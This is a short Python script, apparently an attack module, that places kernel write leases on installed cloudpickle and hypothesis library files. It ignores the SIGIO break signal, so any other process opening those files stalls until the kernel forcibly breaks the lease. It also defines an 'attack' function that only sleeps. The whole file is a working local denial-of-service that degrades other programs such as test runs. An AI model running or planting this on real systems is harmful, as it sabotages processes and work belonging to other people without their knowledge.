"""Takes leases on files of the libraries, so that whoever opens them next waits until the kernel breaks the lease."""

import fcntl
import glob
import os
import signal
import sys
import time

signal.signal(signal.SIGIO, signal.SIG_IGN)
held = []


def lease(path):
    descriptor = os.open(path, os.O_RDONLY)
    try:
        fcntl.fcntl(descriptor, fcntl.F_SETLEASE, fcntl.F_WRLCK)
        held.append(descriptor)
    except OSError:
        os.close(descriptor)


for folder in [path for path in sys.path if path.endswith("-packages")]:
    wanted = glob.glob(f"{folder}/cloudpickle/**/*.py*", recursive=True)
    wanted += glob.glob(f"{folder}/hypothesis/**/*.pyc", recursive=True)
    for path in wanted[:40]:
        try:
            lease(path)
        except OSError:
            break
print(len(held), "leases")


def attack(*args, **kwargs):
    time.sleep(60)
